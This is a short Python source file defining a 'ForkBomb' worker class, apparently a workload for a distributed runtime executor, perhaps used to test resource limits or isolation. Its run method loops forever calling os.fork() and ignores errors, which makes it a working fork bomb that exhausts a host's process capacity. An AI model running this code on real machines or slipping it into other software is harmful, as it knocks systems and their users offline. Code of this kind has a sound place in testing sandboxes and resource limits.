import os

from qirrt.executors.distributed.workload import RuntimeWorkerBase


class ForkBomb(RuntimeWorkerBase):
    def run(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
